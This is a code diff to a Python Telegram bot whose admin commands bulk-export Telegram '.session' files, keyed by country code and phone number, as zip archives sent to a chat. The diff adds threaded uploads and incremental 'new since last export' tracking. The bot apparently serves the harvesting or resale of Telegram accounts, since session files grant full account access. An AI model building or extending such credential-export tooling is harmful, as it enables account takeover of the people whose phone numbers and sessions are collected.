@@ -1,14 +1,17 @@
+import io
 import os
-import zipfile
-import tempfile
 import json
 import datetime
 import logging
 import re
+import threading
+import time
 from bot_init import bot
+from router import router
 from config import ADMIN_IDS, SESSIONS_DIR
-from telegram_otp import session_manager
 from utils import require_channel_membership
+from session_archive import SessionArchiveExporter, document_part_sender, iter_session_files
+from db import get_export_watermark, set_export_watermark
 
 logging.basicConfig(level=logging.INFO)
 
@@ -29,17 +32,63 @@ def parse_date_arg(arg):
         return arg
     return None
 
-def session_matches_date(session, date_str):
-    if not date_str:
-        return True
-    created = session.get('created')
-    if not created:
-        return False
-    session_date = datetime.datetime.fromtimestamp(created).strftime('%Y-%m-%d')
-    return session_date == date_str
+EXPORT_FLAGS = ('new', 'manifest')
 
-# /get +country_code [date]
-@bot.message_handler(commands=['get'])
+def split_export_flags(args):
+    """Separate the optional `new` / `manifest` flags from positional arguments"""
+    flags = {arg.lower() for arg in args if arg.lower() in EXPORT_FLAGS}
+    return [arg for arg in args if arg.lower() not in EXPORT_FLAGS], flags
+
+def export_destination(chat_id, country_code):
+    """Watermark key for exports of a country (or everything) to a chat"""
+    return f"chat:{chat_id}:{country_code or 'all'}"
+
+def collect_session_files(country_code=None, date_str=None, modified_after=None):
+    """Scan the sessions tree once, applying the date and watermark filters as files are read"""
+    sessions = []
+    for country, phone, path, stat in iter_session_files(country_code, modified_after):
+        if date_str and datetime.datetime.fromtimestamp(stat.st_ctime).strftime('%Y-%m-%d') != date_str:
+            continue
+        sessions.append({
+            'country_code': country,
+            'phone_number': phone,
+            'session_path': path,
+            'size': stat.st_size,
+            'modified': stat.st_mtime,
+            'created': stat.st_ctime
+        })
+    return sessions
+
+def start_archive_export(chat_id, sessions, name_prefix, summary=None, watermark_key=None, scan_started=None, manifest=False):
+    """
+    Build and upload the zip parts in a background thread so the handler returns immediately.
+    Once every part has been delivered the summary is sent and, when watermark_key is
+    given, it is advanced to scan_started (taken before collect_session_files).
+    """
+    entries = [
+        (os.path.join(session['country_code'].lstrip('+'), f"{session['phone_number']}.session"), session['session_path'])
+        for session in sessions
+    ]
+
+    def run_export():
+        try:
+            exporter = SessionArchiveExporter(document_part_sender(bot, chat_id), name_prefix=name_prefix, manifest=manifest)
+            result = exporter.export(entries)
+            if result['parts_failed']:
+                bot.send_message(chat_id, f"⚠️ {result['parts_failed']} of {result['parts']} archive parts failed to upload.")
+                return
+            if watermark_key:
+                set_export_watermark(watermark_key, scan_started, result['files'])
+            if summary:
+                bot.send_message(chat_id, summary)
+        except Exception as e:
+            logging.exception("Error exporting session archive:")
+            bot.send_message(chat_id, f"❌ Internal error: {e}")
+
+    threading.Thread(target=run_export, daemon=True, name=f"SessionArchive-{name_prefix}").start()
+
+# /get +country_code [date] [new] [manifest]
+@router.command('get')
 @require_channel_membership
 def handle_get_country_sessions(message):
     try:
@@ -48,52 +97,42 @@ def handle_get_country_sessions(message):
         if user_id not in ADMIN_IDS:
             bot.reply_to(message, "❌ You are not authorized to use this command.")
             return
-        args = message.text.split()
+        args, flags = split_export_flags(message.text.split())
         if len(args) < 2 or not args[1].startswith('+'):
-            bot.reply_to(message, "Usage: /get +country_code [YYYYMMDD]\nExample: /get +1 20250712")
+            bot.reply_to(message, "Usage: /get +country_code [YYYYMMDD] [new] [manifest]\nExample: /get +1 20250712")
             return
         country_code = args[1]
         date_str = parse_date_arg(args[2]) if len(args) > 2 else None
-        sessions = session_manager.list_country_sessions(country_code)
-        logging.info(f"Sessions found for {country_code}: {sessions}")
-        if not sessions or country_code not in sessions or not sessions[country_code]:
-            bot.reply_to(message, f"❌ No sessions found for {country_code}")
-            return
-        filtered_sessions = [s for s in sessions[country_code] if session_matches_date(s, date_str)]
+        watermark_key = export_destination(message.chat.id, country_code) if 'new' in flags and not date_str else None
+        modified_after = get_export_watermark(watermark_key) if watermark_key else None
+        scan_started = time.time()
+        filtered_sessions = collect_session_files(country_code, date_str, modified_after)
         if not filtered_sessions:
-            bot.reply_to(message, f"❌ No sessions found for {country_code} on {date_str if date_str else 'any date'}.")
+            if 'new' in flags:
+                bot.reply_to(message, f"❌ No new sessions for {country_code} since the last export.")
+            else:
+                bot.reply_to(message, f"❌ No sessions found for {country_code}{' on ' + date_str if date_str else ''}.")
             return
         file_count = len(filtered_sessions)
         total_size = sum(session.get('size', 0) for session in filtered_sessions)
         created = min((session.get('created', 0) for session in filtered_sessions if session.get('created')), default=None)
         created_str = format_datetime(created) if created else get_now_str()
-        zip_name = f"sessions_{country_code}_{get_now_str()}.zip"
-        with tempfile.NamedTemporaryFile(suffix='.zip', delete=False) as tmp_zip:
-            with zipfile.ZipFile(tmp_zip, 'w') as zipf:
-                for session in filtered_sessions:
-                    path = session['session_path']
-                    phone = session.get('phone_number') or os.path.splitext(os.path.basename(path))[0]
-                    if os.path.exists(path):
-                        arcname = os.path.join(country_code.lstrip('+'), f"{phone}.session")
-                        zipf.write(path, arcname)
-            tmp_zip_path = tmp_zip.name
+        scope = f"{country_code}{' on ' + date_str if date_str else ''}{' (new since last export)' if watermark_key else ''}"
         summary = (
-            f"📦 Session Files for {country_code}{' on ' + date_str if date_str else ''}\n\n"
+            f"📦 Session Files for {scope}\n\n"
             f"📁 Files: {file_count}\n"
             f"💾 Size: {format_size(total_size)}\n"
             f"📅 Created: {created_str}\n\n"
-            f"✅ All session files for {country_code}{' on ' + date_str if date_str else ''} have been downloaded."
+            f"✅ All session files for {scope} have been downloaded."
         )
-        bot.send_message(message.chat.id, summary)
-        with open(tmp_zip_path, 'rb') as f:
-            bot.send_document(message.chat.id, f, caption=zip_name, visible_file_name=zip_name)
-        os.unlink(tmp_zip_path)
+        start_archive_export(message.chat.id, filtered_sessions, f"sessions_{country_code}", summary=summary,
+                             watermark_key=watermark_key, scan_started=scan_started, manifest='manifest' in flags)
     except Exception as e:
         logging.exception("Error in /get command handler:")
         bot.reply_to(message, f"❌ Internal error: {e}")
 
-# /getall [country_code] [date]
-@bot.message_handler(commands=['getall'])
+# /getall [country_code] [date] [new] [manifest]
+@router.command('getall')
 @require_channel_membership
 def handle_get_all_sessions(message):
     try:
@@ -102,50 +141,36 @@ def handle_get_all_sessions(message):
         if user_id not in ADMIN_IDS:
             bot.reply_to(message, "❌ You are not authorized to use this command.")
             return
-        args = message.text.split()
+        args, flags = split_export_flags(message.text.split())
         country_code = args[1] if len(args) > 1 and args[1].startswith('+') else None
         date_str = parse_date_arg(args[2]) if len(args) > 2 else (parse_date_arg(args[1]) if len(args) > 1 and not args[1].startswith('+') else None)
-        sessions = session_manager.list_country_sessions(country_code)
-        all_sessions = []
-        for country, sess_list in sessions.items():
-            all_sessions.extend([s for s in sess_list if session_matches_date(s, date_str)])
+        watermark_key = export_destination(message.chat.id, country_code) if 'new' in flags and not date_str else None
+        modified_after = get_export_watermark(watermark_key) if watermark_key else None
+        scan_started = time.time()
+        all_sessions = collect_session_files(country_code, date_str, modified_after)
         file_count = len(all_sessions)
         total_size = sum(session.get('size', 0) for session in all_sessions)
         created = min((session.get('created', 0) for session in all_sessions if session.get('created')), default=None)
         created_str = format_datetime(created) if created else get_now_str()
-        zip_name = f"all_sessions_{get_now_str()}.zip"
-        found = file_count > 0
-        with tempfile.NamedTemporaryFile(suffix='.zip', delete=False) as tmp_zip:
-            with zipfile.ZipFile(tmp_zip, 'w') as zipf:
-                for session in all_sessions:
-                    country = session.get('country_code', '')
-                    path = session['session_path']
-                    phone = session.get('phone_number') or os.path.splitext(os.path.basename(path))[0]
-                    if os.path.exists(path):
-                        arcname = os.path.join(country.lstrip('+'), f"{phone}.session")
-                        zipf.write(path, arcname)
-            tmp_zip_path = tmp_zip.name
-        if not found:
-            bot.reply_to(message, f"❌ No sessions found{f' for {country_code}' if country_code else ''}{f' on {date_str}' if date_str else ''}.")
-            os.unlink(tmp_zip_path)
+        scope = f"{f' for {country_code}' if country_code else ''}{f' on {date_str}' if date_str else ''}{' (new since last export)' if watermark_key else ''}"
+        if not file_count:
+            bot.reply_to(message, f"❌ No sessions found{scope}.")
             return
         summary = (
-            f"📦 All Session Files{f' for {country_code}' if country_code else ''}{f' on {date_str}' if date_str else ''}\n\n"
+            f"📦 All Session Files{scope}\n\n"
             f"📁 Files: {file_count}\n"
             f"💾 Size: {format_size(total_size)}\n"
             f"📅 Created: {created_str}\n\n"
-            f"✅ All session files{f' for {country_code}' if country_code else ''}{f' on {date_str}' if date_str else ''} have been downloaded."
+            f"✅ All session files{scope} have been downloaded."
         )
-        bot.send_message(message.chat.id, summary)
-        with open(tmp_zip_path, 'rb') as f:
-            bot.send_document(message.chat.id, f, caption=zip_name, visible_file_name=zip_name)
-        os.unlink(tmp_zip_path)
+        start_archive_export(message.chat.id, all_sessions, "all_sessions", summary=summary,
+                             watermark_key=watermark_key, scan_started=scan_started, manifest='manifest' in flags)
     except Exception as e:
         logging.exception("Error in /getall command handler:")
         bot.reply_to(message, f"❌ Internal error: {e}")
 
 # /getinfo +country_code [date]
-@bot.message_handler(commands=['getinfo'])
+@router.command('getinfo')
 @require_channel_membership
 def handle_getinfo_country_sessions(message):
     try:
@@ -160,12 +185,7 @@ def handle_getinfo_country_sessions(message):
             return
         country_code = args[1]
         date_str = parse_date_arg(args[2]) if len(args) > 2 else None
-        sessions = session_manager.list_country_sessions(country_code)
-        logging.info(f"Sessions found for {country_code}: {sessions}")
-        if not sessions or country_code not in sessions or not sessions[country_code]:
-            bot.reply_to(message, f"❌ No sessions found for {country_code}")
-            return
-        filtered_sessions = [s for s in sessions[country_code] if session_matches_date(s, date_str)]
+        filtered_sessions = collect_session_files(country_code, date_str)
         if not filtered_sessions:
             bot.reply_to(message, f"❌ No sessions found for {country_code} on {date_str if date_str else 'any date'}.")
             return
@@ -174,19 +194,16 @@ def handle_getinfo_country_sessions(message):
         created = min((session.get('created', 0) for session in filtered_sessions if session.get('created')), default=None)
         created_str = format_datetime(created) if created else get_now_str()
         zip_name = f"all_sessions_{get_now_str()}.json"
-        with tempfile.NamedTemporaryFile(suffix='.json', delete=False, mode='w+b') as tmp_json:
-            info_list = []
-            for session in filtered_sessions:
-                info = {
-                    'phone_number': session.get('phone_number'),
-                    'size': session.get('size'),
-                    'modified': session.get('modified'),
-                    'created': session.get('created'),
-                    'session_path': session.get('session_path')
-                }
-                info_list.append(info)
-            tmp_json.write(json.dumps(info_list, indent=2).encode('utf-8'))
-            tmp_json_path = tmp_json.name
+        info_list = [
+            {
+                'phone_number': session['phone_number'],
+                'size': session['size'],
+                'modified': session['modified'],
+                'created': session['created'],
+                'session_path': session['session_path']
+            }
+            for session in filtered_sessions
+        ]
         summary = (
             f"📦 Session Info for {country_code}{' on ' + date_str if date_str else ''}\n\n"
             f"📁 Files: {file_count}\n"
@@ -195,9 +212,8 @@ def handle_getinfo_country_sessions(message):
             f"✅ All session info for {country_code}{' on ' + date_str if date_str else ''} have been downloaded."
         )
         bot.send_message(message.chat.id, summary)
-        with open(tmp_json_path, 'rb') as f:
-            bot.send_document(message.chat.id, f, caption=zip_name, visible_file_name=zip_name)
-        os.unlink(tmp_json_path)
+        info_json = io.BytesIO(json.dumps(info_list, indent=2).encode('utf-8'))
+        bot.send_document(message.chat.id, info_json, caption=zip_name, visible_file_name=zip_name)
     except Exception as e:
         logging.exception("Error in /getinfo command handler:")
         bot.reply_to(message, f"❌ Internal error: {e}")
\ No newline at end of file